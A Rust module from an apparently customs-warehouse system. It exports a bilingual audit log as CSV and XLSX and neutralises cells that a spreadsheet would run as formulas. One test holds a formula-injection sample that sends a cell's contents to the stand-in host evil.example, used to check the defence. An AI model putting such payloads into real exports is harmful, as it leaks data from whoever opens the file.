//! The audit log as a spreadsheet for customs: the same rows as CSV (with a UTF-8 byte-order
//! mark, so that Excel on Chinese Windows reads it as UTF-8, and with every cell that a
//! spreadsheet would take for a formula neutralised) and as XLSX (typed cells: times as dates,
//! numbers as numbers, everything else as text, never a formula; a frozen header row).
//! Actions, areas, roles and the reasons the system writes are in the reader's language.

use std::borrow::Cow;

use chrono::{DateTime, FixedOffset, Utc};

use super::footage::warehouse_zone;
use crate::error::AppError;

/// The reader's language.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Zh,
    En,
}

impl Lang {
    /// `?lang=` when given, else the first language of `Accept-Language` that is English or
    /// Chinese, else Chinese (the language of the warehouses).
    pub fn choose(asked: Option<&str>, accept_language: Option<&str>) -> Result<Self, AppError> {
        match asked.map(str::trim) {
            Some("zh") => return Ok(Self::Zh),
            Some("en") => return Ok(Self::En),
            Some(other) if !other.is_empty() => {
                return Err(AppError::validation("lang", "zh or en"));
            }
            _ => {}
        }
        for tag in accept_language.unwrap_or("").split(',') {
            let tag = tag
                .split(';')
                .next()
                .unwrap_or("")
                .trim()
                .to_ascii_lowercase();
            if tag.starts_with("en") {
                return Ok(Self::En);
            }
            if tag.starts_with("zh") {
                return Ok(Self::Zh);
            }
        }
        Ok(Self::Zh)
    }

    fn pick(self, zh: &'static str, en: &'static str) -> &'static str {
        match self {
            Self::Zh => zh,
            Self::En => en,
        }
    }
}

/// One audit entry as a row of the export.
#[derive(Debug, Clone)]
pub struct Row {
    pub seq: i64,
    pub at: DateTime<Utc>,
    pub actor: String,
    pub role: String,
    pub action: String,
    pub entity_kind: String,
    pub entity_id: String,
    pub warehouse: Option<String>,
    pub enterprise: Option<String>,
    pub camera: Option<String>,
    pub bin: Option<String>,
    pub area: Option<String>,
    pub quantity: Option<i64>,
    pub footage_from: Option<DateTime<FixedOffset>>,
    pub footage_to: Option<DateTime<FixedOffset>>,
    pub footage_url: Option<String>,
    pub changes: String,
    pub reason: Option<String>,
    pub request_id: Option<String>,
    pub prev_hash: String,
    pub hash: String,
}

/// The columns, in order.
pub fn header(lang: Lang) -> [&'static str; 22] {
    [
        lang.pick("序号", "seq"),
        lang.pick("时间", "time"),
        lang.pick("操作人", "actor"),
        lang.pick("角色", "role"),
        lang.pick("操作", "action"),
        lang.pick("操作代码", "action code"),
        lang.pick("对象类型", "entity kind"),
        lang.pick("对象编号", "entity id"),
        lang.pick("仓库", "warehouse"),
        lang.pick("企业", "enterprise"),
        lang.pick("摄像头", "camera"),
        lang.pick("库位", "bin"),
        lang.pick("区域", "area"),
        lang.pick("数量", "quantity"),
        lang.pick("录像开始", "footage from"),
        lang.pick("录像结束", "footage to"),
        lang.pick("录像链接", "footage link"),
        lang.pick("变更", "changes"),
        lang.pick("原因", "reason"),
        lang.pick("请求编号", "request id"),
        lang.pick("前一哈希", "previous hash"),
        lang.pick("哈希", "hash"),
    ]
}

/// Widths of the XLSX columns (in characters), in the order of [`header`].
const WIDTHS: [f64; 22] = [
    8.0, 26.0, 14.0, 12.0, 18.0, 22.0, 12.0, 22.0, 10.0, 14.0, 14.0, 16.0, 12.0, 8.0, 26.0, 26.0,
    40.0, 60.0, 40.0, 38.0, 66.0, 66.0,
];

/// A time as the warehouse shows it: to the second, with the offset (`2026-12-07 12:40:59 +08:00`).
pub fn shown_time(t: DateTime<FixedOffset>) -> String {
    t.format("%Y-%m-%d %H:%M:%S %:z").to_string()
}

fn local(t: DateTime<Utc>) -> DateTime<FixedOffset> {
    t.with_timezone(&warehouse_zone())
}

/// A cell a spreadsheet would read as a formula (or a command) made plain text: OWASP's
/// "CSV injection" rule, a `'` before a first `=`, `+`, `-`, `@`, tab or carriage return.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// The row's cells as text, in the order of [`header`] (before neutralising).
fn texts(r: &Row, lang: Lang) -> [String; 22] {
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    [
        r.seq.to_string(),
        shown_time(local(r.at)),
        r.actor.clone(),
        role(&r.role, lang).to_string(),
        action(&r.action, lang).to_string(),
        r.action.clone(),
        r.entity_kind.clone(),
        r.entity_id.clone(),
        opt(&r.warehouse),
        opt(&r.enterprise),
        opt(&r.camera),
        opt(&r.bin),
        r.area
            .as_deref()
            .map(|a| area(a, lang).to_string())
            .unwrap_or_default(),
        r.quantity.map(|q| q.to_string()).unwrap_or_default(),
        r.footage_from.map(shown_time).unwrap_or_default(),
        r.footage_to.map(shown_time).unwrap_or_default(),
        opt(&r.footage_url),
        r.changes.clone(),
        r.reason
            .as_deref()
            .map(|x| reason(x, lang))
            .unwrap_or_default(),
        opt(&r.request_id),
        r.prev_hash.clone(),
        r.hash.clone(),
    ]
}

/// The CSV: a UTF-8 byte-order mark, the header, one row per entry; every cell neutralised.
pub fn csv(rows: &[Row], lang: Lang) -> Result<Vec<u8>, AppError> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut w = csv::Writer::from_writer(&mut out);
        let fail = |e: csv::Error| AppError::Internal(e.to_string());
        w.write_record(header(lang).map(|h| neutralise(h).into_owned()))
            .map_err(fail)?;
        for r in rows {
            w.write_record(texts(r, lang).iter().map(|c| neutralise(c).into_owned()))
                .map_err(fail)?;
        }
        w.flush().map_err(|e| AppError::Internal(e.to_string()))?;
    }
    Ok(out)
}

/// The XLSX workbook: one sheet, a bold frozen header, typed cells (never a formula).
pub fn xlsx(rows: &[Row], lang: Lang) -> Result<Vec<u8>, AppError> {
    use rust_xlsxwriter::{Format, Workbook};
    let fail = |e: rust_xlsxwriter::XlsxError| AppError::Internal(e.to_string());
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet
        .set_name(lang.pick("审计日志", "Audit log"))
        .map_err(fail)?;
    let bold = Format::new().set_bold();
    let when = Format::new().set_num_format("yyyy-mm-dd hh:mm:ss");
    for (col, (title, width)) in header(lang).iter().zip(WIDTHS).enumerate() {
        let col = col as u16;
        sheet
            .write_string_with_format(0, col, *title, &bold)
            .map_err(fail)?;
        sheet.set_column_width(col, width).map_err(fail)?;
    }
    sheet.set_freeze_panes(1, 0).map_err(fail)?;
    for (i, r) in rows.iter().enumerate() {
        let row = i as u32 + 1;
        let cells = texts(r, lang);
        for (col, text) in cells.iter().enumerate() {
            let col = col as u16;
            match col {
                // Numbers as numbers.
                0 => {
                    sheet.write_number(row, col, r.seq as f64).map_err(fail)?;
                }
                13 => {
                    if let Some(q) = r.quantity {
                        sheet.write_number(row, col, q as f64).map_err(fail)?;
                    }
                }
                // Times as dates, in the warehouse's time zone (the header says which).
                1 | 14 | 15 => {
                    let t = match col {
                        1 => Some(local(r.at)),
                        14 => r.footage_from,
                        _ => r.footage_to,
                    };
                    if let Some(t) = t {
                        sheet
                            .write_datetime_with_format(row, col, t.naive_local(), &when)
                            .map_err(fail)?;
                    }
                }
                // Everything else as text, even when it looks like a formula or a number.
                _ => {
                    if !text.is_empty() {
                        sheet.write_string(row, col, text).map_err(fail)?;
                    }
                }
            }
        }
    }
    book.save_to_buffer().map_err(fail)
}

/// An action in the reader's language (the code itself when it has no label).
pub fn action(code: &str, lang: Lang) -> &str {
    let (zh, en) = match code {
        "return.apply" => ("退货申请", "Return applied"),
        "return.cancel" => ("撤销退货申请", "Return application cancelled"),
        "return.receive" => ("收货", "Received"),
        "return.sort" => ("分拣", "Sorted"),
        "return.inspect" => ("查验", "Inspected"),
        "return.restock" => ("上架", "Restocked"),
        "return.dispose" => ("处置", "Disposed"),
        "return.dispose_request" => (
            "申请处置（待审批）",
            "Disposal requested (awaiting approval)",
        ),
        "return.dispose_approve" => ("批准处置", "Disposal approved"),
        "return.dispose_reject" => ("驳回处置", "Disposal rejected"),
        "return.hold" => ("海关暂扣", "Put on customs hold"),
        "return.release" => ("解除暂扣", "Released from hold"),
        "return.customs_receipt" => ("海关回执", "Customs receipt"),
        "declaration.record" => ("登记申报清单", "Declaration list recorded"),
        "declaration.receipt" => ("清单回执", "List receipt"),
        "enterprise.create" => ("新建企业", "Enterprise created"),
        "enterprise.rate" => ("信用等级变更", "Rating changed"),
        "warehouse.create" => ("新建仓库", "Warehouse created"),
        "bin.create" => ("新建库位", "Bin created"),
        "camera.create" => ("新建摄像头", "Camera created"),
        "printer.create" => ("新增打印机", "Printer registered"),
        "printer.update" => ("修改打印机", "Printer changed"),
        "printer.delete" => ("删除打印机", "Printer removed"),
        "user.create" => ("新建用户", "User created"),
        "user.update" => ("修改用户", "User changed"),
        "token.create" => ("生成访问令牌", "Access token made"),
        "token.revoke" => ("撤销访问令牌", "Access token revoked"),
        "throttle.clear" => ("解除登录限速", "Sign-in throttle cleared"),
        "refused.enterprise_excluded" => ("因失信被拒绝", "Refused: enterprise excluded"),
        _ => return code,
    };
    lang.pick(zh, en)
}

fn area(code: &str, lang: Lang) -> &str {
    let (zh, en) = match code {
        "receiving" => ("收货区", "Receiving"),
        "pending_inspection" => ("待查验区", "Pending inspection"),
        "discrepancy" => ("差异区", "Discrepancy"),
        "hold" => ("暂存/扣留区", "Hold"),
        "restock" => ("上架区", "Restock"),
        "exit" => ("出区作业区", "Exit"),
        _ => return code,
    };
    lang.pick(zh, en)
}

fn role(code: &str, lang: Lang) -> &str {
    let (zh, en) = match code {
        "floor" => ("仓库作业员", "Floor staff"),
        "supervisor" => ("海关监管", "Customs supervisor"),
        "admin" => ("管理员", "Administrator"),
        "system" => ("系统", "System"),
        _ => return code,
    };
    lang.pick(zh, en)
}

fn rating(code: &str, lang: Lang) -> &str {
    let (zh, en) = match code {
        "advanced_certified" => ("高级认证企业", "Advanced certified"),
        "certified" => ("认证企业", "Certified"),
        "regular" => ("常规/其他企业", "Regular"),
        "dishonest" => ("失信企业", "Dishonest"),
        "seriously_dishonest" => ("严重失信企业", "Seriously dishonest"),
        "general_certified" => ("一般认证企业", "General certified"),
        "general_credit" => ("一般信用企业", "General credit"),
        _ => return code,
    };
    lang.pick(zh, en)
}

/// A reason the system itself writes, in the reader's language; people's own reasons as
/// they wrote them.
pub fn reason(text: &str, lang: Lang) -> String {
    if lang == Lang::En {
        return text.to_string();
    }
    if let Some(own) = text.strip_suffix(" (return closed)") {
        return format!("{}（退货完结）", reason(own, lang));
    }
    match text {
        "every unit settled: return closed" => return "全部商品已处理完毕，退货完结".into(),
        "nothing left to restock or dispose" => return "没有可上架或处置的商品，退货完结".into(),
        _ => {}
    }
    // "arrived after the 45-day limit (2026-12-01): may only leave the zone, …"
    if let Some(rest) = text.strip_prefix("arrived after the ") {
        if let Some((days, rest)) = rest.split_once("-day limit (") {
            if let Some((day, _)) = rest.split_once(')') {
                return format!("超过{days}天到货期限（{day}）到货：只能出区、退运或销毁");
            }
        }
    }
    // "party CODE rated RATING (…) under REFERENCE"
    if let Some(rest) = text.strip_prefix("party ") {
        if let Some((code, rest)) = rest.split_once(" rated ") {
            if let Some((rated, rest)) = rest.split_once(' ') {
                if let Some((_, reference)) = rest.split_once(") under ") {
                    return format!(
                        "企业 {code} 被评为{}（依据：{reference}）",
                        rating(rated, lang)
                    );
                }
            }
        }
    }
    // An exclusion (error.rs `Exclusion`): "the ROLE NAME (CODE) is rated R (…) since D
    // (reference REF): excluded from the return flow"
    if let Some(rest) = text.strip_prefix("the ") {
        for (role_en, role_zh) in [
            ("e-commerce enterprise ", "电商企业"),
            ("declaring agent ", "申报企业"),
            ("warehouse operator ", "仓储企业"),
        ] {
            let Some(rest) = rest.strip_prefix(role_en) else {
                continue;
            };
            let Some((who, rest)) = rest.split_once(" is rated ") else {
                continue;
            };
            let Some((rated, rest)) = rest.split_once(' ') else {
                continue;
            };
            let since = rest
                .split_once(" since ")
                .and_then(|(_, r)| r.split_once(' '))
                .map(|(d, _)| d)
                .unwrap_or("");
            let reference = rest
                .split_once("(reference ")
                .and_then(|(_, r)| r.split_once("):"))
                .map(|(r, _)| r)
                .unwrap_or("");
            return format!(
                "{role_zh}{who}自{since}起被评为{}（依据：{reference}），不得参与退货作业",
                rating(rated, lang)
            );
        }
    }
    text.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_is_made_text() {
        for bad in [
            "=1+1",
            "+1",
            "-2",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click\")",
        ] {
            assert_eq!(neutralise(bad), format!("'{bad}"));
        }
        for fine in ["RT2026", "退货", "", "1+1", " =x"] {
            assert_eq!(neutralise(fine), fine);
        }
    }

    #[test]
    fn the_systems_reasons_are_said_in_chinese() {
        assert_eq!(
            reason("every unit settled: return closed", Lang::Zh),
            "全部商品已处理完毕，退货完结"
        );
        assert_eq!(
            reason("七天无理由 (return closed)", Lang::Zh),
            "七天无理由（退货完结）"
        );
        assert_eq!(
            reason("arrived after the 45-day limit (2026-12-01): may only leave the zone, be re-exported or destroyed", Lang::Zh),
            "超过45天到货期限（2026-12-01）到货：只能出区、退运或销毁"
        );
        assert_eq!(
            reason("the e-commerce enterprise 某公司 (HK0000E001) is rated dishonest (失信企业) since 2026-12-01 (reference 署信〔2026〕1号): excluded from the return flow", Lang::Zh),
            "电商企业某公司 (HK0000E001)自2026-12-01起被评为失信企业（依据：署信〔2026〕1号），不得参与退货作业"
        );
        assert_eq!(
            reason("every unit settled: return closed", Lang::En),
            "every unit settled: return closed"
        );
        assert_eq!(reason("客户拒收", Lang::Zh), "客户拒收");
    }

    #[test]
    fn the_language_is_asked_or_taken_from_the_browser() {
        assert_eq!(Lang::choose(Some("en"), Some("zh-CN")).unwrap(), Lang::En);
        assert_eq!(
            Lang::choose(None, Some("en-US,en;q=0.9")).unwrap(),
            Lang::En
        );
        assert_eq!(
            Lang::choose(None, Some("zh-CN,zh;q=0.9,en;q=0.8")).unwrap(),
            Lang::Zh
        );
        assert_eq!(Lang::choose(None, None).unwrap(), Lang::Zh);
        assert!(Lang::choose(Some("fr"), None).is_err());
    }
}
